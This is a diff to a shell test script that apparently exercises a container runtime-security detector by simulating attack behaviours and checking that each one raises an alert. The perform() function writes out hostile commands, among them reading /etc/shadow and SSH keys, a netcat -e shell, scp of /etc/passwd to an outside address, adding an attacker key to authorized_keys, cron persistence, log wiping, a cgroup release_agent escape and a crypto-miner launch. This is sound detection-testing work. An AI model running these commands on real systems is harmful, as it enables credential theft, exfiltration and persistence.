@@ -15,7 +15,7 @@
 # before the consumer starts.
 HOSTROOT=$PWD/hostroot
 mkdir -p "$HOSTROOT"
-TOOLS_ID=7c0ffee0123456789abcdef0123456789abcdef0123456789abcdef01234567
+TOOLS_ID=7c0ffee0123456789abcdef0123456789abcdef0123456789abcdef012345678
 NAMES=/tmp/names
 mkdir -p $NAMES /srv/www /var/log /root/.ssh /var/lib/dpkg /etc/apt /var/tmp \
 	/usr/local/bin /tmp/lib /tmp/work /etc/cron.d
@@ -140,31 +140,36 @@ EOF
 # Each behaviour, in the order of the table; failures of the commands
 # themselves are expected for some (a refused module, applets that do not
 # exist behind an imitated name) and do not matter: the syscalls were made.
+# Applets are called by their path: busybox sh runs an applet named
+# without one inside a fork of itself, with no exec (and no new name).
 perform() {
-	q() { "$@" >/dev/null 2>&1 || true; }
+	q() {
+		echo "+ $*" >>perform.log
+		"$@" >>perform.log 2>&1 || echo "  (status $?)" >>perform.log
+	}
 	# priv_start: the container's pid 1 (started by mk_tools_container).
 	q rc_exec /bin/cat /etc/shadow
 	q $NAMES/nginx spawn /bin/cat /srv/www/../../etc/hostname
-	q ln -s /etc/shadow /tmp/work/shadow-link
-	q ln /etc/shadow /root/shadow-copy
+	q /bin/ln -s /etc/shadow /tmp/work/shadow-link
+	q /bin/ln /etc/shadow /root/shadow-copy
 	q kestrel-behave tty /run/runtime/runc exec-in "$RC_CG" "$RC_PID" /bin/sh -c 'exit 0'
 	q rc_exec /bin/kestrel-behave connect 10.96.0.1 443
 	q rc_exec /bin/nc 127.0.0.1 4445 -e /bin/true
-	q nc 127.0.0.1 4445 -e /bin/true
-	q find /root -name id_rsa
-	q grep -r aws_secret_access_key /root
-	q sh -c ': >/var/log/auth.log'
-	q shred /tmp/work/junk
+	q /bin/nc 127.0.0.1 4445 -e /bin/true
+	q /bin/find /root -name id_rsa
+	q /bin/grep -r aws_secret_access_key /root
+	q /bin/sh -c ': >/var/log/auth.log'
+	q /bin/shred /tmp/work/junk
 	q rc_exec /bin/kestrel-behave packet-socket
 	q rc_exec /bin/kestrel-behave finit /tmp/m.ko
 	q rc_exec /bin/debugfs
 	q rc_exec /bin/mount -t tmpfs none /root
 	q rc_exec /bin/sh -c 'mkdir -p /tmp/cg && echo /evil >/tmp/cg/release_agent'
-	sleep 30 &
+	/bin/sleep 30 &
 	q kestrel-behave ptrace-attach $!
-	kill $! 2>/dev/null || true
+	/bin/kill $! 2>/dev/null || true
 	q kestrel-behave traceme /bin/true
-	q cp /bin/busybox /dev/shm/true
+	q /bin/cp /bin/busybox /dev/shm/true
 	q /dev/shm/true
 	q rc_exec /bin/cp /bin/busybox /tmp/dropped
 	q rc_exec /bin/chmod 0755 /tmp/dropped
@@ -174,42 +179,42 @@ perform() {
 	q $NAMES/mysqld spawn /bin/id
 	q $NAMES/sshd spawn /bin/kestrel-behave tty /bin/kestrel-behave as 1 /bin/id
 	q kestrel-behave tty /bin/uname -a
-	q sh -c 'echo "alias ll=ls" >>/root/.bashrc'
-	q sh -c 'echo "* * * * * root /tmp/x" >/etc/cron.d/kestrel-job'
-	q cat /root/.ssh/id_rsa
-	q nsenter -t "$RC_PID" -u /bin/true
+	q /bin/sh -c 'echo "alias ll=ls" >>/root/.bashrc'
+	q /bin/sh -c 'echo "* * * * * root /tmp/x" >/etc/cron.d/kestrel-job'
+	q /bin/cat /root/.ssh/id_rsa
+	q /bin/nsenter -t "$RC_PID" -u /bin/true
 	q rc_exec /bin/unshare -m /bin/true
 	q $NAMES/ls connect 127.0.0.1 8080
-	q env HTTP_PROXY=http://127.0.0.1:3128 http_proxy=http://127.0.0.1:3128 wget -q -O /dev/null http://198.51.100.7:8080/
+	q /bin/env HTTP_PROXY=http://127.0.0.1:3128 http_proxy=http://127.0.0.1:3128 /bin/wget -q -O /dev/null http://198.51.100.7:8080/
 	q kestrel-behave udp 198.51.100.7 7001
 	q kestrel-behave as 1000 /bin/true
 	q $NAMES/useradd -D bob
-	q sh -c 'echo x >/dev/kestrel-drop'
+	q /bin/sh -c 'echo x >/dev/kestrel-drop'
 	q rc_exec /bin/kestrel-behave connect 169.254.169.254 80
 	q rc_exec /bin/apk add curl
 	q rc_exec /bin/nmap -sS 10.0.0.0/24
 	q $NAMES/tcpdump -i lo
-	q sh -c 'echo ls >/root/.ash_history'
-	q rm /root/.ash_history
-	q chmod u+s /tmp/work/suid-tool
+	q /bin/sh -c 'echo ls >/root/.ash_history'
+	q /bin/rm /root/.ash_history
+	q /bin/chmod u+s /tmp/work/suid-tool
 	q rc_exec /bin/scp /etc/passwd backup@198.51.100.7:/tmp/
 	q rc_exec /bin/wget -q -O /dev/null http://198.51.100.7:8080/
 	q rc_exec /bin/cat /proc/1/environ
 	q rc_exec /bin/tar cf /dev/null /etc
-	q sh -c 'echo "ssh-ed25519 AAAA attacker" >>/root/.ssh/authorized_keys'
-	q env GLIBC_TUNABLES=glibc.malloc.mxfast=0 /bin/true
-	q cat /tmp/lib/liblzma.so.5.6.1
+	q /bin/sh -c 'echo "ssh-ed25519 AAAA attacker" >>/root/.ssh/authorized_keys'
+	q /bin/env GLIBC_TUNABLES=glibc.malloc.mxfast=0 /bin/true
+	q /bin/cat /tmp/lib/liblzma.so.5.6.1
 	q kestrel-behave bpf-load
-	q sh -c 'echo "deb http://198.51.100.7/debian stable main" >>/etc/apt/sources.list'
-	q mkdir /usr/local/bin/kit
-	q sh -c 'echo "#!/bin/sh" >/usr/local/bin/kit/tool'
-	q sh -c 'echo x >/tmp/work/libevil.so && mkdir -p /usr/lib && cp /tmp/work/libevil.so /usr/lib/.libevil.tmp && mv /usr/lib/.libevil.tmp /usr/lib/libevil.so'
-	q sh -c 'echo "#!/bin/sh" >/bin/chsh'
-	q sh -c 'echo x >>/etc/kestrel-test.conf'
-	q sh -c 'echo x >/root/notes.txt'
-	q sh -c 'echo "Status: install ok installed" >>/var/lib/dpkg/status'
+	q /bin/sh -c 'echo "deb http://198.51.100.7/debian stable main" >>/etc/apt/sources.list'
+	q /bin/mkdir /usr/local/bin/kit
+	q /bin/sh -c 'echo "#!/bin/sh" >/usr/local/bin/kit/tool'
+	q /bin/sh -c 'echo x >/tmp/work/libevil.so && /bin/mkdir -p /usr/lib && /bin/cp /tmp/work/libevil.so /usr/lib/.libevil.tmp && /bin/mv /usr/lib/.libevil.tmp /usr/lib/libevil.so'
+	q /bin/sh -c 'echo "#!/bin/sh" >/bin/chsh'
+	q /bin/sh -c 'echo x >>/etc/kestrel-test.conf'
+	q /bin/sh -c 'echo x >/root/notes.txt'
+	q /bin/sh -c 'echo "Status: install ok installed" >>/var/lib/dpkg/status'
 	q rc_exec /bin/kestrel-behave connect 127.0.0.1 30080
-	q mkdir /var/tmp/.cache-x
+	q /bin/mkdir /var/tmp/.cache-x
 	q kestrel-behave connect 198.51.100.7 3333
 	q $NAMES/xmrig -o stratum+tcp://pool.example:3333 -u wallet
 	q rc_exec /bin/kubectl get pods
@@ -220,11 +225,11 @@ perform() {
 	q rc_exec /bin/sh -c 'echo aGVsbG8= | /bin/base64 -d'
 	q rc_exec /bin/head -c 1 /dev/mem
 	q rc_exec /bin/cat /host/etc/hostname
-	nc -l -p 4446 >/dev/null 2>&1 &
-	sleep 0.5
-	kill $! 2>/dev/null || true
-	q chmod 0640 /etc/shadow
-	sleep 1
+	/bin/nc -l -p 4446 >/dev/null 2>&1 &
+	/bin/sleep 0.5
+	/bin/kill $! 2>/dev/null || true
+	q /bin/chmod 0640 /etc/shadow
+	/bin/sleep 1
 }
 
 # check_phase ALERTS COLUMN: for each behaviour, whether an alert of the
@@ -259,6 +264,7 @@ check_phase() {
 		else
 			CP_MISSING="$CP_MISSING $id"
 			echo "BEHAVIOUR $id ($where): MISSING $rule [$fields]"
+			grep -F "\"rule\":\"$rule\"" "$1" | head -n 3 | sed 's/^/    alert of that rule: /'
 		fi
 	done <"$EXPECT"
 	rm -f cp.tmp
